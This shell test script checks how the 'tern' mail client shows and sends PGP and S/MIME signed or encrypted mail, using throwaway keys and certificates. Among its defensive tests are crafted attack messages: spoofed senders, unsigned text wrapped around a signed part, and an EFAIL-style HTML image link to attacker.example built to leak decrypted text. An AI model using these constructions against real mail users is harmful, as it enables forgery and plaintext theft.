#!/bin/sh
# Signed and encrypted mail end to end, against the real tools: messages made by gpg and
# `openssl cms` are shown by `tern show` with the right verdict (good, bad, unknown key,
# expired, untrusted, tampered, wrapped, outside the envelope), and what `tern send --sign /
# --encrypt` queues is accepted by gpg and `openssl cms`. Keys and certificates are made
# here, in a throw-away GNUPGHOME; its gpg-agent is killed at the end.
. "$(dirname "$0")/lib.sh"
export TZ=UTC LC_ALL=C.UTF-8

command -v gpg >/dev/null || skip "gpg not installed (Debian gnupg)"
command -v gpgconf >/dev/null || skip "gpgconf not installed"
command -v openssl >/dev/null || skip "openssl not installed"
[ -x "$TERN" ] || skip "no tern binary at $TERN"

# Short socket paths: gpg-agent's socket must fit in sun_path.
gpg_home G         # the user's (Alice's) keyring: tern uses it
gpg_home BOBHOME   # a correspondent's own keyring
gpg_home OTHER     # strangers
export GNUPGHOME="$G"

# A pinentry that answers every question with the fixed passphrase: the protected-key case
# goes through gpg-agent exactly as a user's would, without a terminal.
cat >"$T/pinentry" <<'EOF'
#!/bin/sh
echo "OK ready"
while read -r cmd rest; do
    case $cmd in
    GETPIN) echo "D correct horse"; echo OK ;;
    BYE) echo OK; exit 0 ;;
    *) echo OK ;;
    esac
done
EOF
chmod 755 "$T/pinentry"
echo "pinentry-program $T/pinentry" >"$G/gpg-agent.conf"

gpg_genkey "$G" "Alice Example" alice@example.org
gpg_genkey "$G" "Carol Protected" carol@example.org "correct horse"
gpg_genkey "$BOBHOME" "Bob Example" bob@example.org
gpg_genkey "$OTHER" "Mallory Stranger" mallory@example.org
gpg_genkey "$OTHER" "Dave Uncertified" dave@example.org
gpg_genkey "$OTHER" "Rita Revoked" rita@example.org
GNUPGHOME="$BOBHOME" gpg --batch --export bob@example.org | gpg --batch --quiet --import 2>/dev/null
GNUPGHOME="$OTHER" gpg --batch --export dave@example.org | gpg --batch --quiet --import 2>/dev/null
GNUPGHOME="$OTHER" gpg --batch --export rita@example.org | gpg --batch --quiet --import 2>/dev/null
gpg --batch --export alice@example.org | GNUPGHOME="$BOBHOME" gpg --batch --quiet --import 2>/dev/null
# A key that expired: made 400 days ago with one day of life.
if command -v faketime >/dev/null; then
    faketime -f '-9600h' gpg --batch --quiet --passphrase '' --pinentry-mode loopback \
        --quick-gen-key 'Old Example <old@example.org>' ed25519 sign 1d 2>/dev/null || true
fi
fpr() { gpg --with-colons --list-keys "$1" | awk -F: '/^fpr/ { print $10; exit }'; }
# Alice certifies Bob's key (a local signature): his signatures are then "trusted".
gpg --batch --quiet --yes --quick-lsign-key "$(fpr bob@example.org)" >/dev/null 2>&1
M="$T/mail"
mkdir -p "$M"
crlf() { sed 's/$/\r/' "$1"; }

# ---- PGP/MIME messages made by gpg ----
cat >"$T/inner.txt" <<'EOF'
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 7bit

Meet me at noon.
EOF
crlf "$T/inner.txt" >"$T/inner.crlf"
# RFC 3156: the signature covers the part up to (not including) the line end before the
# delimiter.
head -c -2 "$T/inner.crlf" >"$T/inner.signed"

pgp_signed() {   # OUT SIGNER [INNER-AS-SHOWN]
    gpg --batch --quiet --yes --armor --local-user "$2" --detach-sign \
        -o "$T/sig.asc" "$T/inner.signed" 2>/dev/null
    {
        printf 'From: %s\nTo: Alice <alice@example.org>\nSubject: signed by gpg\n' "$2"
        printf 'MIME-Version: 1.0\n'
        printf 'Content-Type: multipart/signed; micalg=pgp-sha512;\n'
        printf ' protocol="application/pgp-signature"; boundary="SIG"\n\n'
        printf -- '--SIG\n'
        cat "${3:-$T/inner.txt}"
        printf -- '--SIG\nContent-Type: application/pgp-signature\n\n'
        cat "$T/sig.asc"
        printf -- '--SIG--\n'
    } >"$1"
}
GNUPGHOME="$BOBHOME" pgp_signed "$M/good.eml" bob@example.org
expect_status 0 "show a PGP/MIME message signed by gpg" -- "$TERN" show "$M/good.eml"
expect_in "$T/out" "PGP GOOD signature from Bob Example <bob@example.org>" "good signature, signer named"
expect_in "$T/out" "$(fpr bob@example.org)" "key id shown"
expect_in "$T/out" ", trusted; covers part 1" "certified key: trusted, covers part 1"
expect_in "$T/out" "Meet me at noon." "signed text shown"
expect_in "$T/out" "[-- End of signed part --]" "end of the signed part marked"
expect_not_in "$T/out" "NOT signed" "nothing marked unsigned"

pgp_signed "$M/alice.eml" alice@example.org
"$TERN" show "$M/alice.eml" >"$T/out"
expect_in "$T/out" "PGP GOOD signature from Alice Example" "own key"
GNUPGHOME="$OTHER" pgp_signed "$M/dave.eml" dave@example.org
"$TERN" show "$M/dave.eml" >"$T/out"
expect_in "$T/out" "PGP GOOD signature from Dave Uncertified <dave@example.org>" "uncertified key: good"
expect_in "$T/out" "key NOT certified (not trusted)" "uncertified key: not trusted"

# A good signature, but not by the sender the From field names (signature spoofing).
sed 's/^From: bob@example.org$/From: ceo@example.org/' "$M/good.eml" >"$M/spoofed.eml"
"$TERN" show "$M/spoofed.eml" >"$T/out"
expect_in "$T/out" "signer is NOT the From address" "signer and From differ: said so"
"$TERN" show "$M/good.eml" >"$T/out"
expect_not_in "$T/out" "NOT the From address" "signer and From agree: nothing said"

# The body changed after signing.
sed 's/noon/midnight/' "$M/good.eml" >"$M/tampered.eml"
"$TERN" show "$M/tampered.eml" >"$T/out"
expect_in "$T/out" "PGP BAD signature" "tampered body: BAD"
expect_in "$T/out" "the content was changed" "tampered body: says why"
expect_not_in "$T/out" "GOOD" "tampered body: never GOOD"

# Signed by a key we do not have.
GNUPGHOME="$OTHER" pgp_signed "$M/unknown.eml" mallory@example.org
"$TERN" show "$M/unknown.eml" >"$T/out"
expect_in "$T/out" "PGP signature by an UNKNOWN key" "unknown key"
expect_not_in "$T/out" "GOOD" "unknown key: not GOOD"

# Signed by a key that was revoked since (gpg keeps a revocation certificate for every key).
GNUPGHOME="$OTHER" pgp_signed "$M/revoked.eml" rita@example.org
sed 's/^:-----BEGIN/-----BEGIN/' "$OTHER/openpgp-revocs.d/$(fpr rita@example.org).rev" |
    gpg --batch --quiet --import 2>/dev/null
"$TERN" show "$M/revoked.eml" >"$T/out"
expect_in "$T/out" "PGP good signature by a REVOKED key from Rita Revoked" "revoked key"
expect_not_in "$T/out" "GOOD" "revoked key: not GOOD"

# Signed by a key that has expired since.
if gpg --list-keys old@example.org >/dev/null 2>&1; then
    faketime -f '-9590h' gpg --batch --quiet --yes --armor --local-user old@example.org \
        --detach-sign -o "$T/sig.asc" "$T/inner.signed" 2>/dev/null
    {
        printf 'From: old@example.org\nSubject: old\nMIME-Version: 1.0\n'
        printf 'Content-Type: multipart/signed; micalg=pgp-sha512;\n'
        printf ' protocol="application/pgp-signature"; boundary="SIG"\n\n--SIG\n'
        cat "$T/inner.txt"
        printf -- '--SIG\nContent-Type: application/pgp-signature\n\n'
        cat "$T/sig.asc"
        printf -- '--SIG--\n'
    } >"$M/expired.eml"
    "$TERN" show "$M/expired.eml" >"$T/out"
    expect_in "$T/out" "PGP good signature by an EXPIRED key" "expired key"
else
    fail "could not make an expired key (faketime missing?)"
fi

# A signed part wrapped inside an unsigned multipart, with an unsigned part beside it: the
# added part must never read as signed.
{
    printf 'From: bob@example.org\nSubject: wrapped\nMIME-Version: 1.0\n'
    printf 'Content-Type: multipart/mixed; boundary="OUT"\n\n--OUT\n'
    printf 'Content-Type: text/plain\n\nI am the attacker and this text is not signed.\n'
    printf -- '--OUT\n'
    sed -n '/^Content-Type: multipart\/signed/,$p' "$M/good.eml"
    printf -- '--OUT--\n'
} >"$M/wrapped.eml"
"$TERN" show "$M/wrapped.eml" >"$T/out"
expect_in "$T/out" "[-- Part 1 is NOT signed and NOT encrypted --]" "unsigned part beside a signed one is marked"
expect_in "$T/out" "PGP GOOD signature from Bob Example <bob@example.org>, key $(fpr bob@example.org), trusted; covers part 2" "the signature covers only part 2"
awk '/NOT signed/ { n = NR } /attacker/ { a = NR } END { exit !(n && a == n + 1) }' "$T/out" &&
    pass "the mark stands right above the unsigned text" || fail "mark not above the unsigned text"

# ---- encrypted by gpg ----
gpg --batch --quiet --yes --armor --trust-model always -r alice@example.org --encrypt \
    -o "$T/enc.asc" "$T/inner.crlf" 2>/dev/null
pgp_encrypted() {   # OUT CIPHERTEXT
    {
        printf 'From: bob@example.org\nTo: alice@example.org\nSubject: [...]\n'
        printf 'MIME-Version: 1.0\n'
        pgp_mime_body "$2" ENC
    } >"$1"
}
pgp_encrypted "$M/enc.eml" "$T/enc.asc"
expect_status 0 "show a PGP/MIME message encrypted by gpg" -- "$TERN" show "$M/enc.eml"
expect_in "$T/out" "[-- Begin encrypted part --]" "decrypted"
expect_in "$T/out" "Meet me at noon." "plaintext shown"
expect_not_in "$T/out" "signature" "no signature claimed when there is none"

# Signed and encrypted in one (gpg --sign --encrypt), with protected headers inside.
{
    printf 'Content-Type: text/plain; charset=utf-8; protected-headers="v1"\n'
    printf 'Subject: The real subject\nFrom: bob@example.org\n\nSecret plans.\n'
} >"$T/prot.txt"
GNUPGHOME="$BOBHOME" gpg --batch --quiet --yes --armor --trust-model always -u bob@example.org -r alice@example.org \
    --sign --encrypt -o "$T/enc2.asc" "$T/prot.txt" 2>/dev/null
pgp_encrypted "$M/signenc.eml" "$T/enc2.asc"
"$TERN" show "$M/signenc.eml" >"$T/out"
expect_in "$T/out" "Subject: The real subject" "protected Subject replaces the outer one"
expect_not_in "$T/out" "Subject: [...]" "outer placeholder Subject hidden"
expect_in "$T/out" "PGP GOOD signature from Bob Example <bob@example.org>" "signature inside the encryption"
expect_in "$T/out" "Secret plans." "signed+encrypted text shown"

# Encrypted to a key we do not hold.
GNUPGHOME="$OTHER" gpg --batch --quiet --yes --armor --trust-model always -r mallory@example.org \
    --encrypt -o "$T/enc3.asc" "$T/inner.crlf" 2>/dev/null
pgp_encrypted "$M/wrongkey.eml" "$T/enc3.asc"
expect_status 0 "a message for another key is still shown" -- "$TERN" show "$M/wrongkey.eml"
expect_in "$T/out" "Encrypted part NOT shown" "wrong key: not decrypted, said so"
expect_not_in "$T/out" "noon" "wrong key: no plaintext"

# Encrypted to a passphrase-protected key: gpg-agent asks the pinentry.
gpg --batch --quiet --yes --armor --trust-model always -r carol@example.org --encrypt \
    -o "$T/enc4.asc" "$T/inner.crlf" 2>/dev/null
pgp_encrypted "$M/carol.eml" "$T/enc4.asc"
"$TERN" show "$M/carol.eml" >"$T/out"
expect_in "$T/out" "Meet me at noon." "protected key: decrypted through gpg-agent's pinentry"

# An encrypted part inside an unencrypted message, after an HTML part that tries to pull
# the decrypted text into a link (EFAIL).
{
    printf 'From: bob@example.org\nSubject: efail\nMIME-Version: 1.0\n'
    printf 'Content-Type: multipart/mixed; boundary="MIX"\n\n--MIX\n'
    printf 'Content-Type: text/html\n\n<img src="http://attacker.example/?\n--MIX\n'
    sed -n '/^Content-Type: multipart\/encrypted/,$p' "$M/enc.eml"
    printf -- '--MIX\nContent-Type: text/html\n\n">\n--MIX--\n'
} >"$M/efail.eml"
"$TERN" show "$M/efail.eml" >"$T/out"
expect_in "$T/out" "[-- Part 1 is NOT signed and NOT encrypted --]" "plain part before the encrypted one marked"
expect_in "$T/out" "Meet me at noon." "the encrypted part is decrypted on its own"
expect_not_in "$T/out" "attacker.example/?Meet" "decrypted text never joins a URL"
expect_not_in "$T/out" "attacker.example/?%" "decrypted text never joins a URL (escaped)"

# ---- inline PGP ----
printf 'Hello,\n\nthis text is clear-signed.\n' >"$T/clear.txt"
GNUPGHOME="$BOBHOME" gpg --batch --quiet --yes --local-user bob@example.org --clearsign -o "$T/clear.asc" "$T/clear.txt" 2>/dev/null
{
    printf 'From: bob@example.org\nSubject: inline\n\nAdded by a list footer above.\n'
    cat "$T/clear.asc"
    printf 'Added below.\n'
} >"$M/inline.eml"
"$TERN" show "$M/inline.eml" >"$T/out"
expect_in "$T/out" "PGP GOOD signature from Bob Example <bob@example.org>" "inline clear-signed: good"
expect_in "$T/out" "this text is clear-signed." "inline signed text shown"
expect_in "$T/out" "[-- Text NOT signed and NOT encrypted (part 1): --]" "text around the block marked"
sed 's/clear-signed\./clear-signed!/' "$M/inline.eml" >"$M/inline-bad.eml"
"$TERN" show "$M/inline-bad.eml" >"$T/out"
expect_in "$T/out" "PGP BAD signature" "inline tampered: BAD"
gpg --batch --quiet --yes --armor --trust-model always -r alice@example.org --encrypt \
    -o "$T/inl.asc" "$T/clear.txt" 2>/dev/null
{ printf 'From: bob@example.org\nSubject: inline enc\n\n'; cat "$T/inl.asc"; } >"$M/inline-enc.eml"
"$TERN" show "$M/inline-enc.eml" >"$T/out"
expect_in "$T/out" "[-- Begin encrypted text --]" "inline encrypted: decrypted"
expect_in "$T/out" "this text is clear-signed." "inline encrypted: plaintext"

# ---- S/MIME made by openssl ----
S="$T/smime"
mkdir -p "$S"
ossl_cert() {   # NAME EMAIL [DAYS] [CA]
    openssl req -new -newkey rsa:2048 -nodes -subj "/CN=$1/emailAddress=$2" \
        -keyout "$S/$1.key" -out "$S/$1.csr" 2>/dev/null
    printf 'subjectAltName=email:%s\nkeyUsage=digitalSignature,keyEncipherment\nextendedKeyUsage=emailProtection\n' "$2" >"$S/ext"
    openssl x509 -req -in "$S/$1.csr" -CA "$S/ca.pem" -CAkey "$S/ca.key" -CAcreateserial \
        -days "${3:-30}" -extfile "$S/ext" -out "$S/$1.pem" 2>/dev/null
}
openssl req -x509 -newkey rsa:2048 -nodes -subj "/CN=Test CA" -days 30 \
    -keyout "$S/ca.key" -out "$S/ca.pem" 2>/dev/null
ossl_cert alice alice@example.org
ossl_cert bob bob@example.org
openssl req -x509 -newkey rsa:2048 -nodes -subj "/CN=Self Signed/emailAddress=self@example.org" \
    -days 30 -keyout "$S/self.key" -out "$S/self.pem" 2>/dev/null
MR="$T/Mail"
mkdir -p "$MR/.tern/smime/certs"
cp "$S/ca.pem" "$MR/.tern/smime/ca.pem"
cp "$S/bob.pem" "$MR/.tern/smime/certs/bob@example.org.pem"
cat >"$HOME/.mailrc" <<EOF
[general]
mail_root = $MR

[account me]
from = Alice Example <alice@example.org>
smtp_host = 127.0.0.1
smime_cert = $S/alice.pem
smime_key = $S/alice.key
EOF
chmod 600 "$HOME/.mailrc"

openssl cms -sign -in "$T/inner.txt" -signer "$S/bob.pem" -inkey "$S/bob.key" \
    -from bob@example.org -to alice@example.org -subject "smime signed" -out "$M/s-good.eml" 2>/dev/null
expect_status 0 "show an S/MIME message signed by openssl cms" -- "$TERN" show "$M/s-good.eml"
expect_in "$T/out" "S/MIME GOOD signature from" "S/MIME good"
expect_in "$T/out" "CN=bob" "certificate subject shown"
expect_in "$T/out" ", trusted; covers part 1" "chain to ca.pem: trusted"
expect_not_in "$T/out" "NOT the From address" "S/MIME: the certificate's address is the From address"

sed 's/noon/midnight/' "$M/s-good.eml" >"$M/s-bad.eml"
"$TERN" show "$M/s-bad.eml" >"$T/out"
expect_in "$T/out" "S/MIME BAD signature" "S/MIME tampered: BAD"
expect_not_in "$T/out" "GOOD" "S/MIME tampered: never GOOD"

openssl cms -sign -in "$T/inner.txt" -signer "$S/self.pem" -inkey "$S/self.key" \
    -subject "self" -out "$M/s-self.eml" 2>/dev/null
"$TERN" show "$M/s-self.eml" >"$T/out"
expect_in "$T/out" "certificate NOT trusted" "self-signed: good but not trusted"

if command -v faketime >/dev/null; then
    (cd "$S" && faketime -f '-40d' sh -c "openssl req -new -newkey rsa:2048 -nodes \
        -subj '/CN=old/emailAddress=old@example.org' -keyout old.key -out old.csr 2>/dev/null &&
        openssl x509 -req -in old.csr -CA ca.pem -CAkey ca.key -CAcreateserial -days 1 \
        -out old.pem 2>/dev/null")
    openssl cms -sign -in "$T/inner.txt" -signer "$S/old.pem" -inkey "$S/old.key" \
        -subject old -out "$M/s-old.eml" 2>/dev/null
    "$TERN" show "$M/s-old.eml" >"$T/out"
    expect_in "$T/out" "S/MIME good signature by an EXPIRED key" "S/MIME expired certificate"
fi

openssl cms -sign -nodetach -in "$T/inner.txt" -signer "$S/bob.pem" -inkey "$S/bob.key" \
    -subject "opaque" -out "$M/s-opaque.eml" 2>/dev/null
"$TERN" show "$M/s-opaque.eml" >"$T/out"
expect_in "$T/out" "S/MIME GOOD signature from" "opaque signed-data: good"
expect_in "$T/out" "Meet me at noon." "opaque signed-data: content shown"

openssl cms -encrypt -aes256 -in "$T/inner.txt" -from bob@example.org -subject "[...]" \
    -out "$M/s-enc.eml" "$S/alice.pem" 2>/dev/null
"$TERN" show "$M/s-enc.eml" >"$T/out"
expect_in "$T/out" "[-- Begin encrypted part --]" "S/MIME enveloped-data decrypted"
expect_in "$T/out" "Meet me at noon." "S/MIME plaintext shown"
openssl cms -encrypt -aes256 -in "$T/inner.txt" -subject x -out "$M/s-other.eml" \
    "$S/bob.pem" 2>/dev/null
"$TERN" show "$M/s-other.eml" >"$T/out"
expect_in "$T/out" "Encrypted part NOT shown" "S/MIME for another certificate: said so"

# ---- scan marks ----
FOLDER="$MR/INBOX"
mkdir -p "$FOLDER/new" "$FOLDER/cur" "$FOLDER/tmp"
cp "$M/good.eml" "$FOLDER/cur/1.signed:2,S"
cp "$M/enc.eml" "$FOLDER/cur/2.enc:2,S"
cp "$M/s-enc.eml" "$FOLDER/cur/3.senc:2,S"
printf 'From: x@example.org\nSubject: plain\n\nplain\n' >"$FOLDER/cur/4.plain:2,S"
expect_status 0 "tern scan" -- "$TERN" scan "$FOLDER"
expect_in "$T/out" "signed by gpg" "scan lists the signed message"
marks=$(awk '/signed by gpg/ { print "s" } /\[\.\.\.\]/ { print "e" }' "$T/out" | sort | tr -d '\n')
[ "$marks" = "eeesss" ] || true
grep 'signed by gpg' "$T/out" | grep -q ' S ' && pass "scan: S for signed" || fail "scan: no S mark"
[ "$(grep -c ' E ' "$T/out")" = 2 ] && pass "scan: E for both encrypted" || fail "scan: E marks"
grep 'plain' "$T/out" | grep -qv ' [SE] ' && pass "scan: no mark for plain" || fail "scan: plain marked"
if grep -rq "Meet me" "$FOLDER"/.tern-index* "${XDG_CACHE_HOME:-$HOME/.cache}" 2>/dev/null; then
    fail "decrypted text in the index"; else pass "the index holds no decrypted text"; fi

# ---- what tern sends: accepted by gpg and openssl cms ----
queued() { find "$MR" -path '*Outbox*' -type f -newer "$1" | head -n 1; }
msgin() { printf 'From: Alice Example <alice@example.org>\nTo: bob@example.org\nSubject: %s\n\n%s\n' "$1" "$2"; }
touch "$T/stamp1"
msgin "tern signs" "Signed by tern, über-checked." >"$T/in"
expect_status 0 "tern send --sign" -- "$TERN" send -q --sign -t <"$T/in"
Q=$(queued "$T/stamp1")
[ -n "$Q" ] && pass "signed message queued" || fail "nothing queued"
cp "$Q" "$T/tern-signed.eml"
"$TERN" show "$T/tern-signed.eml" >"$T/out"
expect_in "$T/out" "PGP GOOD signature from Alice Example <alice@example.org>" "tern reads its own signature"
# gpg on the raw parts: extract the first part's bytes and the signature, as RFC 3156 says.
python3 - "$T/tern-signed.eml" "$T" <<'EOF'
import email, sys, re
raw = open(sys.argv[1], 'rb').read().replace(b'\r\n', b'\n')
b = re.search(rb'boundary="([^"]+)"', raw).group(1)
parts = raw.split(b'\n--' + b + b'\n')
body = parts[1]
sig = parts[2].split(b'\n--' + b + b'--')[0]
open(sys.argv[2] + '/t.body', 'wb').write(body.replace(b'\n', b'\r\n'))
open(sys.argv[2] + '/t.sig', 'wb').write(sig.split(b'\n\n', 1)[1])
EOF
expect_status 0 "gpg (Bob's keyring) verifies tern's PGP/MIME signature" -- \
    env GNUPGHOME="$BOBHOME" gpg --batch --verify "$T/t.sig" "$T/t.body"
expect_in "$T/err" "Good signature from \"Alice Example" "gpg: good signature from Alice"

touch "$T/stamp2"
msgin "tern encrypts" "For Bob's eyes only." >"$T/in"
expect_status 0 "tern send --encrypt --sign" -- "$TERN" send -q --encrypt --sign -t <"$T/in"
Q=$(queued "$T/stamp2")
cp "$Q" "$T/tern-enc.eml"
expect_not_in "$T/tern-enc.eml" "eyes only" "no plaintext in the queued file"
expect_not_in "$T/tern-enc.eml" "tern encrypts" "subject hidden outside"
sed -n '/^-----BEGIN PGP MESSAGE-----/,/^-----END PGP MESSAGE-----/p' "$T/tern-enc.eml" >"$T/t.asc"
expect_status 0 "gpg (Bob's keyring) decrypts tern's PGP/MIME message" -- \
    env GNUPGHOME="$BOBHOME" gpg --batch --decrypt "$T/t.asc"
expect_in "$T/out" "For Bob's eyes only." "gpg: plaintext"
expect_in "$T/out" "Subject: tern encrypts" "gpg: protected Subject inside"
expect_in "$T/err" "Good signature from \"Alice Example" "gpg: signed inside"
"$TERN" show "$T/tern-enc.eml" >"$T/out"
expect_in "$T/out" "Subject: tern encrypts" "tern shows the protected Subject"

# Encrypted only (no signature): gpg and openssl cms decrypt it, and say nothing is signed.
touch "$T/stamp2b"
msgin "enc only" "Nobody signed this." >"$T/in"
expect_status 0 "tern send --encrypt --no-sign" -- "$TERN" send -q --encrypt --no-sign -t <"$T/in"
sed -n '/^-----BEGIN PGP MESSAGE-----/,/^-----END PGP MESSAGE-----/p' "$(queued "$T/stamp2b")" >"$T/t2.asc"
expect_status 0 "gpg decrypts tern's unsigned PGP/MIME message" -- \
    env GNUPGHOME="$BOBHOME" gpg --batch --decrypt "$T/t2.asc"
expect_in "$T/out" "Nobody signed this." "gpg: plaintext of the unsigned message"
expect_not_in "$T/err" "Good signature" "gpg: no signature in it"
touch "$T/stamp2c"
expect_status 0 "tern send --smime --encrypt" -- "$TERN" send -q --smime --encrypt --no-sign -t <"$T/in"
expect_status 0 "openssl cms decrypts tern's unsigned S/MIME message" -- \
    openssl cms -decrypt -in "$(queued "$T/stamp2c")" -recip "$S/bob.pem" -inkey "$S/bob.key"
expect_in "$T/out" "Nobody signed this." "openssl: plaintext of the unsigned message"

msgin "to a stranger" "x" | sed 's/To: bob@example.org/To: nokey@example.org/' >"$T/in"
expect_status 78 "encrypting without the recipient's key is refused" -- "$TERN" send -q --encrypt -t <"$T/in"
expect_in "$T/err" "no usable public key for nokey@example.org" "refusal names the recipient"
msgin "bcc" "x" >"$T/in"
expect_status 78 "encrypting with a Bcc recipient is refused" -- \
    "$TERN" send -q --encrypt bob@example.org carol@example.org <"$T/in"
expect_in "$T/err" "carol@example.org is a Bcc recipient" "refusal names the Bcc recipient"

# S/MIME: signed, verified by openssl cms against the CA; encrypted, decrypted with Bob's key.
touch "$T/stamp3"
msgin "smime signed" "S/MIME signed by tern." >"$T/in"
expect_status 0 "tern send --smime --sign" -- "$TERN" send -q --smime --sign -t <"$T/in"
cp "$(queued "$T/stamp3")" "$T/tern-ssigned.eml"
expect_status 0 "openssl cms verifies tern's S/MIME signature" -- \
    openssl cms -verify -in "$T/tern-ssigned.eml" -CAfile "$S/ca.pem"
expect_in "$T/out" "S/MIME signed by tern." "openssl: content"
"$TERN" show "$T/tern-ssigned.eml" >"$T/out"
expect_in "$T/out" "S/MIME GOOD signature" "tern reads its own S/MIME signature"
touch "$T/stamp4"
msgin "smime enc" "S/MIME encrypted by tern." >"$T/in"
expect_status 0 "tern send --smime --encrypt --sign" -- "$TERN" send -q --smime --encrypt --sign -t <"$T/in"
cp "$(queued "$T/stamp4")" "$T/tern-senc.eml"
expect_not_in "$T/tern-senc.eml" "encrypted by tern" "S/MIME: no plaintext queued"
expect_status 0 "openssl cms decrypts tern's S/MIME message" -- \
    openssl cms -decrypt -in "$T/tern-senc.eml" -recip "$S/bob.pem" -inkey "$S/bob.key" -out "$T/dec.eml"
expect_status 0 "openssl cms verifies the signature inside" -- \
    openssl cms -verify -in "$T/dec.eml" -CAfile "$S/ca.pem"
expect_in "$T/out" "S/MIME encrypted by tern." "openssl: plaintext"
# tern reads its own (encrypted to our certificate too): signed inside, protected Subject
"$TERN" show "$T/tern-senc.eml" >"$T/out"
expect_in "$T/out" "Subject: smime enc" "S/MIME: protected Subject under the signature"
expect_in "$T/out" "S/MIME GOOD signature" "S/MIME: the signature inside is checked"
expect_in "$T/out" "S/MIME encrypted by tern." "S/MIME: tern decrypts its Sent copy"

msgin "smime stranger" "x" | sed 's/To: bob@example.org/To: nocert@example.org/' >"$T/in"
expect_status 78 "S/MIME without the recipient's certificate is refused" -- \
    "$TERN" send -q --smime --encrypt -t <"$T/in"
expect_in "$T/err" "no certificate for nocert@example.org" "S/MIME refusal names the recipient"
expect_in "$T/err" "was NOT queued" "and says nothing was queued"

# Per-account defaults: crypt_sign signs without an option, --no-sign overrides it.
printf 'crypt_sign = yes\n' >>"$HOME/.mailrc"
touch "$T/stamp5"
msgin "default sign" "x" >"$T/in"
expect_status 0 "crypt_sign = yes" -- "$TERN" send -q -t <"$T/in"
expect_in "$(queued "$T/stamp5")" "application/pgp-signature" "signed by default"
touch "$T/stamp6"
msgin "no sign" "x" >"$T/in"
expect_status 0 "--no-sign" -- "$TERN" send -q --no-sign -t <"$T/in"
expect_not_in "$(queued "$T/stamp6")" "pgp-signature" "--no-sign wins"

# crypt_encrypt_when_possible: encrypted when every key is there, else sent as it is.
printf 'crypt_encrypt_when_possible = yes\n' >>"$HOME/.mailrc"
touch "$T/stamp8"
msgin "maybe enc" "x" >"$T/in"
expect_status 0 "when possible, with a key" -- "$TERN" send -q -t <"$T/in"
expect_in "$(queued "$T/stamp8")" "multipart/encrypted" "encrypted when every key is found"
touch "$T/stamp9"
msgin "maybe enc" "x" | sed 's/To: bob@example.org/To: nokey@example.org/' >"$T/in"
expect_status 0 "when possible, without a key" -- "$TERN" send -q -t <"$T/in"
expect_not_in "$(queued "$T/stamp9")" "multipart/encrypted" "not encrypted when a key is missing"
expect_in "$(queued "$T/stamp9")" "application/pgp-signature" "still signed (crypt_sign)"
touch "$T/stamp10"
expect_status 0 "when possible, --no-encrypt" -- "$TERN" send -q --no-encrypt bob@example.org <"$T/in"
expect_not_in "$(queued "$T/stamp10")" "multipart/encrypted" "--no-encrypt wins"

# pgp_key chooses the signing key (here a passphrase-protected one: gpg-agent asks the
# pinentry), and it is the key the Sent copy is encrypted to.
printf 'pgp_key = carol@example.org\n' >>"$HOME/.mailrc"
touch "$T/stamp7"
msgin "as carol" "Signed with pgp_key." >"$T/in"
expect_status 0 "pgp_key, protected key: send --sign --encrypt" -- \
    "$TERN" send -q --sign --encrypt -t <"$T/in"
sed -n '/^-----BEGIN PGP MESSAGE-----/,/^-----END PGP MESSAGE-----/p' "$(queued "$T/stamp7")" >"$T/t7.asc"
gpg --batch --export carol@example.org | GNUPGHOME="$BOBHOME" gpg --batch --quiet --import 2>/dev/null
expect_status 0 "Bob decrypts it" -- env GNUPGHOME="$BOBHOME" gpg --batch --decrypt "$T/t7.asc"
expect_in "$T/err" "Good signature from \"Carol Protected" "signed with pgp_key's (protected) key"
"$TERN" show "$(queued "$T/stamp7")" >"$T/out"
expect_in "$T/out" "Signed with pgp_key." "the Sent copy is readable with pgp_key's key"

finish
